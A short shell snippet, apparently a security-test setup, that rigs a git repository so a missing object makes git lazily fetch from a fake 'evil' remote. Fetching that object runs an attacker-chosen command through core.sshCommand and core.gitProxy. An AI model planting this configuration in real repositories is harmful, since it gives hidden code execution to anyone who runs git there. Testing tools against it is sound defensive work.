git remote add origin evil@127.0.0.1:nowhere
git config core.repositoryFormatVersion 1
git config extensions.partialClone origin
git config remote.origin.promisor true
git config core.sshCommand "$EVIL"
git config core.gitProxy "$EVIL"
object=$(git rev-parse HEAD:rules/facts.drl)
rm -f ".git/objects/${object:0:2}/${object:2}"
